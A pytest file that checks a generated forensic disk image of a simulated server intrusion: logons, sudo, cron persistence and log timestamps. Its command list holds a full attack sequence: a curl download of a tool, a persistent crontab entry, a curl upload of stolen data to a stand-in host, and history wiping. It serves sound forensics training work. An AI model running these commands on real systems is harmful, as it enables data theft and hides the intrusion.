"""SRV01's generated ext4 image: read back through dissect.target, consistent with the story,
byte-identical for the same seed, and every ground-truth reference points at real evidence."""

from __future__ import annotations

import hashlib
import importlib.util
import io
import ipaddress
import os
import re
import shutil
import subprocess
import zoneinfo
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from forensics.samples import ext4, linux, office, payloads, story
from forensics.samples.story import Attack
from forensics.samples.truth import ArtifactReport, Ref

SEED = 1
S = story.attack_time
BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
ATTACK_COMMANDS = [
    "id",
    "uname -a",
    "ls -la /srv/data",
    "curl -s http://203.0.113.66/t/sysupd -o /tmp/.sysupd",
    "chmod +x /tmp/.sysupd",
    '(crontab -l 2>/dev/null; echo "*/10 * * * * /tmp/.sysupd >/dev/null 2>&1") | crontab -',
    "sudo tar czf /tmp/.cache.tgz /srv/data",
    "curl -s -X POST --data-binary @/tmp/.cache.tgz http://files.example.org/upload",
    "rm -f /tmp/.cache.tgz",
    "cat /dev/null > ~/.bash_history",
    "exit",
]


def _required(module: str, why: str) -> None:
    """Skip when a tool is missing on a developer's machine; under CI=true its absence fails."""
    if importlib.util.find_spec(module) is None:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"CI=true but {module} is missing: {why}")
        pytest.skip(f"{module} is not installed: {why}")


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Attack, ArtifactReport]:
    if not shutil.which("mke2fs", path=f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin"):
        pytest.skip("e2fsprogs is not installed")
    out, plan = tmp_path_factory.mktemp("srv01"), story.attack(SEED)
    (report,) = linux.generate(out, plan, SEED)
    return out / report.artifact, plan, report


@pytest.fixture(scope="module")
def target(case: tuple[Path, Attack, ArtifactReport]) -> Any:
    _required("dissect.extfs", "dissect.target needs it to read ext4 (pip install dissect.extfs)")
    from dissect.target import Target

    return Target.open(case[0])


def _text(target: Any, path: str) -> list[str]:
    return target.fs.path(path).read_text().splitlines()


def _local(stamp: str) -> datetime:
    """A syslog timestamp of 2026 on SRV01's clock, as UTC."""
    return datetime.strptime(f"2026 {stamp}", "%Y %b %d %H:%M:%S").replace(tzinfo=BERLIN).astimezone(UTC)


def test_report(case: tuple[Path, Attack, ArtifactReport]) -> None:
    img, _, report = case
    assert (report.artifact, report.host, report.kind) == ("SRV01/srv01.img", "SRV01", "disk-image")
    assert (report.events, report.malicious) == (6072, 93)
    assert report.events - report.malicious >= 50 * report.malicious
    assert img.stat().st_size == 3 * 1024 * 1024  # 1 KiB blocks, as mke2fs picks for a small file system
    steps = sorted({ref.step for ref in report.refs})
    assert steps == ["S11", "S12", "S13", "S14", "S15", "S16"]
    assert all(ref.time.tzinfo is UTC and ref.artifact == "SRV01/srv01.img" for ref in report.refs)


def test_reproducible(case: tuple[Path, Attack, ArtifactReport], tmp_path: Path) -> None:
    """Same seed, same bytes, whatever the folder and the moment; another seed, another image."""
    img, plan, _ = case
    again = linux.generate(tmp_path / "again", plan, SEED)[0]
    other = linux.generate(tmp_path / "other", story.attack(2), 2)[0]
    digest = hashlib.sha256(img.read_bytes()).hexdigest()
    assert hashlib.sha256((tmp_path / "again" / again.artifact).read_bytes()).hexdigest() == digest
    assert hashlib.sha256((tmp_path / "other" / other.artifact).read_bytes()).hexdigest() != digest


def test_clean_file_system(case: tuple[Path, Attack, ArtifactReport]) -> None:
    e2fsck = shutil.which("e2fsck", path=f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin")
    if not e2fsck:
        pytest.skip("e2fsck is not installed")
    done = subprocess.run([e2fsck, "-fn", str(case[0])], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_missing_mke2fs_is_explained(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(ext4.shutil, "which", lambda *_a, **_k: None)
    with pytest.raises(RuntimeError, match=r"apt-get install e2fsprogs"):
        linux.generate(tmp_path, story.attack(SEED), SEED)


def test_identity(target: Any) -> None:
    assert target.hostname == "srv01"
    assert target.os == "linux"
    assert target.version == "Ubuntu 22.04.4 LTS (Jammy Jellyfish)"
    assert target.timezone == "Europe/Berlin"
    assert target.fs.path("/etc/localtime").readlink().as_posix() == "/usr/share/zoneinfo/Europe/Berlin"
    berlin = zoneinfo.ZoneInfo.from_file(io.BytesIO(target.fs.path("/etc/localtime").read_bytes()))
    assert datetime(2026, 3, 10, 11, tzinfo=UTC).astimezone(berlin).utcoffset() == timedelta(hours=1)
    assert datetime(2026, 7, 1, 11, tzinfo=UTC).astimezone(berlin).utcoffset() == timedelta(hours=2)
    users = {u.name: (u.uid, u.gid, str(u.home), u.shell) for u in target.users()}
    assert users["bob"] == (1001, 1001, "/home/bob", "/bin/bash")
    assert users["deploy"] == (1002, 1002, "/home/deploy", "/bin/bash")
    assert users["root"] == (0, 0, "/root", "/bin/bash")
    assert [ln for ln in _text(target, "/etc/group") if ln.startswith("sudo:")] == ["sudo:x:27:srvadmin,bob"]


def test_s11_logon(case: tuple[Path, Attack, ArtifactReport], target: Any) -> None:
    """The stolen password used from WS01: accepted story.SSH_AUTH_DELAY after the SYN (S11's
    time), the auth.log line in local time and the wtmp records."""
    _, plan, _ = case
    sport = next(c.sport for c in plan.connections if c.step == "S11")
    assert S("S11") + story.SSH_AUTH_DELAY == datetime(2026, 3, 10, 11, 5, 6, 292000, tzinfo=UTC)
    pattern = (
        rf"Mar 10 12:05:06 srv01 sshd\[\d+\]: Accepted password for bob from 10\.20\.0\.21 port {sport} ssh2"
    )
    assert [ln for ln in _text(target, "/var/log/auth.log") if re.fullmatch(pattern, ln)] != []
    accepted = [
        r
        for r in target.authlog()
        if r.service == "sshd" and "Accepted password for bob from 10.20" in r.message
    ]
    assert [(r.ts, r.message) for r in accepted if "10.20.0.21" in r.message] == [
        (
            datetime(2026, 3, 10, 11, 5, 6, tzinfo=UTC),
            f"Accepted password for bob from 10.20.0.21 port {sport} ssh2",
        )
    ]
    assert [
        (r.user, r.port, r.authentication_type)
        for r in accepted
        if r.remote_ip == ipaddress.ip_address("10.20.0.21")
    ] == [("bob", sport, "password")]
    assert sorted(str(r.remote_ip) for r in accepted) == [
        "10.20.0.21",
        "10.20.0.35",
        "10.20.0.35",
    ]  # bob's own, with typos
    from_ws01 = [r for r in target.wtmp() if r.ut_host == "10.20.0.21"]
    assert [(r.ts, r.ut_type, r.ut_user, r.ut_line, str(r.ut_addr)) for r in from_ws01] == [
        (datetime(2026, 3, 10, 11, 5, 6, tzinfo=UTC), "USER_PROCESS", "bob", "pts/1", "10.20.0.21")
    ]
    logout = [r for r in target.wtmp() if r.ut_type == "DEAD_PROCESS" and r.ut_pid == from_ws01[0].ut_pid]
    assert [(r.ts, r.ut_line) for r in logout] == [(datetime(2026, 3, 10, 11, 16, 45, tzinfo=UTC), "pts/1")]
    assert S("S16") + story.SSH_LOGOUT_AFTER == datetime(2026, 3, 10, 11, 16, 45, 35000, tzinfo=UTC)


def test_logons_are_the_office_sessions(case: tuple[Path, Attack, ArtifactReport], target: Any) -> None:
    """Every SSH logon auth.log shows is one ``office`` declares (the capture renders the same):
    client address, source port and the second sshd accepted it."""
    _, plan, _ = case
    sessions = office.activity(plan, SEED).sessions
    accepted = [
        (str(r.remote_ip), r.port, r.ts)
        for r in target.authlog()
        if r.service == "sshd" and getattr(r, "action", None) == "accepted authentication"
    ]
    assert sorted(accepted) == sorted((s.src, s.sport, s.auth.replace(microsecond=0)) for s in sessions)
    assert len(accepted) == 13


def test_static_files_are_what_nginx_served(target: Any) -> None:
    """nginx logged the size of /srv/webapp's static files for a download, 0 for a 304."""
    served = [r for r in target.nginx.access() if r.uri in office.ASSETS]
    sizes = {uri: target.fs.path(f"/srv/webapp{uri}").stat().st_size for uri in office.ASSETS}
    assert {r.uri for r in served} == set(office.ASSETS)
    assert all(r.bytes_sent == (sizes[r.uri] if r.status_code == 200 else 0) for r in served)
    assert {r.status_code for r in served} == {200, 304}


def test_s14_sudo(target: Any) -> None:
    sudo = [r for r in target.authlog() if r.service == "sudo" and "tar czf" in r.message]
    assert [(r.ts, r.tty, r.pwd, r.effective_user, r.command) for r in sudo] == [
        (datetime(2026, 3, 10, 11, 12, 5, tzinfo=UTC), "pts/1", "/home/bob", "root",
         "/usr/bin/tar czf /tmp/.cache.tgz /srv/data")
    ]  # fmt: skip
    raw = "Mar 10 12:12:05 srv01 sudo:      bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache.tgz /srv/data"
    assert raw in _text(target, "/var/log/auth.log")


def test_boot_and_failed_logons(target: Any) -> None:
    """Monday's reboot into the new kernel and bob's mistyped passwords from his laptop."""
    boots = [(r.ts, r.ut_user, r.ut_host) for r in target.wtmp() if r.ut_type == "BOOT_TIME"]
    assert boots == [(datetime(2026, 3, 9, 6, 27, 25, tzinfo=UTC), "reboot", "5.15.0-105-generic")]
    failed = [(r.ts, r.ut_type, r.ut_user, r.ut_line, r.ut_host) for r in target.btmp()]
    assert failed == [
        (datetime(2026, 3, 9, 13, 4, 48, tzinfo=UTC), "LOGIN_PROCESS", "bob", "ssh:notty", "10.20.0.35"),
        (datetime(2026, 3, 10, 7, 48, 14, tzinfo=UTC), "LOGIN_PROCESS", "bob", "ssh:notty", "10.20.0.35"),
        (datetime(2026, 3, 10, 7, 48, 17, tzinfo=UTC), "LOGIN_PROCESS", "bob", "ssh:notty", "10.20.0.35"),
    ]
    kernel = _text(target, "/var/log/kern.log")
    assert kernel[0].startswith(
        "Mar  9 07:27:33 srv01 kernel: [    0.000000] Linux version 5.15.0-105-generic "
    )
    history = _text(target, "/var/log/apt/history.log")
    assert history[1:4] == [
        "Start-Date: 2026-03-09  07:22:12",
        "Commandline: apt upgrade",
        "Requested-By: bob (1001)",
    ]


def test_bash_history(target: Any) -> None:
    """bob's history holds exactly the attack session (what the capture shows typed): truncated
    at S16, refilled when ``exit`` ran, just before the disconnect."""
    bob = [(r.order, r.command) for r in target.commandhistory() if r.username == "bob"]
    assert bob == list(enumerate(ATTACK_COMMANDS))
    st = target.fs.path("/home/bob/.bash_history").lstat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (1001, 1001, 0o600)
    written = S("S16") + story.SSH_LOGOUT_AFTER - office.EXIT_LAG + timedelta(seconds=0.002)
    assert st.st_mtime_ns == int(written.timestamp() * 1e6) * 1000
    deploy = [r.command for r in target.commandhistory() if r.username == "deploy"]
    logons = [r for r in target.wtmp() if r.ut_type == "USER_PROCESS" and r.ut_user == "deploy"]
    assert (
        deploy.count("sudo systemctl restart webapp") == 2 + len(logons) == 7
    )  # older work + one per deploy


def test_cron_persistence(case: tuple[Path, Attack, ArtifactReport], target: Any) -> None:
    """crontab replaced at S13, cron reloads it, then runs the tool every ten minutes."""
    syslog = _text(target, "/var/log/syslog")
    edits = [ln for ln in syslog if "crontab[" in ln or "RELOAD" in ln]
    assert [re.sub(r"\[\d+\]", "[]", ln) for ln in edits] == [
        "Mar 10 12:07:31 srv01 crontab[]: (bob) REPLACE (bob)",
        "Mar 10 12:08:01 srv01 cron[]: (bob) RELOAD (crontabs/bob)",
    ]
    runs = [ln[:15] for ln in syslog if "(bob) CMD (/tmp/.sysupd >/dev/null 2>&1)" in ln]
    assert runs == [f"Mar 10 {h:02d}:{m:02d}:01" for h in (12, 13, 14) for m in range(0, 60, 10)][1:]
    assert _text(target, "/var/spool/cron/crontabs/bob") == [
        "# DO NOT EDIT THIS FILE - edit the master and reinstall.",
        "# (- installed on Tue Mar 10 12:07:31 2026)",
        "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)",
        "*/10 * * * * /tmp/.sysupd >/dev/null 2>&1",
    ]
    st = target.fs.path("/var/spool/cron/crontabs/bob").lstat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (1001, 112, 0o600)


def test_dropped_tool_and_data(target: Any) -> None:
    tool = target.fs.path(story.TOOL_PATH)
    st = tool.lstat()
    assert tool.read_bytes() == payloads.tool()
    assert (st.st_uid, st.st_mode & 0o7777) == (1001, 0o755)
    assert st.st_mtime_ns == int((S("S12") + timedelta(seconds=1)).timestamp() * 1e6) * 1000
    assert st.st_atime == datetime(2026, 3, 10, 11, 10, 1, tzinfo=UTC).timestamp()  # cron's first run
    assert not target.fs.path(story.ARCHIVE_PATH).exists()
    for name, data in payloads.data_files().items():
        path = target.fs.path(f"{story.DATA_DIR}/{name}")
        st = path.lstat()
        assert path.read_bytes() == data
        assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (1002, 1002, 0o640)
        assert (
            datetime(2026, 1, 1, tzinfo=UTC).timestamp()
            < st.st_mtime
            < datetime(2026, 3, 1, tzinfo=UTC).timestamp()
        )
        assert 0 < st.st_atime - S("S14").timestamp() < 1  # tar read them at S14


def test_log_ownership(target: Any) -> None:
    expected = {
        "/var/log/auth.log": (107, 4, 0o640),
        "/var/log/syslog": (107, 4, 0o640),
        "/var/log/wtmp": (0, 43, 0o664),
        "/var/log/btmp": (0, 43, 0o660),
        "/var/log/nginx/access.log": (33, 4, 0o640),
        "/etc/shadow": (0, 42, 0o640),
        "/tmp": (0, 0, 0o1777),
    }
    for path, owner in expected.items():
        st = target.fs.path(path).lstat()
        assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == owner, path


def test_background_is_realistic(target: Any) -> None:
    """Working hours busy, nights quiet; PIDs only grow within a boot; logs only in local time."""
    access = _text(target, "/var/log/nginx/access.log.1") + _text(target, "/var/log/nginx/access.log")
    hours = [int(ln.split(":", 2)[1]) for ln in access]
    by_hour = {h: hours.count(h) for h in range(24)}
    assert max(by_hour[h] for h in range(9, 17)) > 20 * max(by_hour[h] for h in (1, 2, 3, 4))
    assert by_hour[13] < 0.7 * by_hour[12]  # lunch
    assert {ln.split()[0] for ln in access} >= {"10.20.0.21", "10.20.0.35", "10.20.0.41", "10.20.0.60"}
    opened = re.compile(r"CRON\[(\d+)\]: pam_unix\(cron:session\): session opened")
    pids = [int(m[1]) for ln in _text(target, "/var/log/auth.log") if (m := opened.search(ln))]
    old, new = pids[: pids.index(min(pids))], pids[pids.index(min(pids)) :]
    assert old == sorted(old) and new == sorted(new) and old[0] > 398_000 and new[0] < 2_000


def _shows(ref: Ref, line: str, plan: Attack) -> bool:
    """Whether a referenced line shows its step: the step's object, or for S11 the source
    address and for S13's syslog lines bob's cron entries."""
    if ref.step == "S11":
        return "Accepted password for bob from 10.20.0.21" in line
    if ref.step == "S13" and ref.locator["path"] == "/var/log/syslog":
        return "(bob)" in line
    return plan.step(ref.step).object.replace("/home/bob/", "~/") in line


def test_refs_point_at_evidence(case: tuple[Path, Attack, ArtifactReport], target: Any) -> None:
    _, plan, report = case
    wtmp = list(target.wtmp())
    for ref in report.refs:
        path = ref.locator["path"]
        assert target.fs.path(path).exists(), ref
        if "line" in ref.locator:
            line = _text(target, path)[ref.locator["line"] - 1]
            assert _shows(ref, line, plan), (ref, line)
            if path.startswith("/var/log/"):
                assert _local(line[:15]) == ref.time, (ref, line)
            else:
                assert ref.time == plan.step(ref.step).time
        elif "record" in ref.locator:
            record = wtmp[ref.locator["record"]]
            assert (record.ut_user, record.ut_host, record.ts) == (
                "bob",
                "10.20.0.21",
                ref.time.replace(microsecond=0),
            )
        else:
            mtime = target.fs.path(path).lstat().st_mtime_ns
            assert mtime == int(ref.time.timestamp() * 1e6) * 1000, ref
    assert [r.locator.get("line") for r in report.refs if r.locator["path"] == "/home/bob/.bash_history"] == [
        4, 6, 7, 8, 10
    ]  # fmt: skip
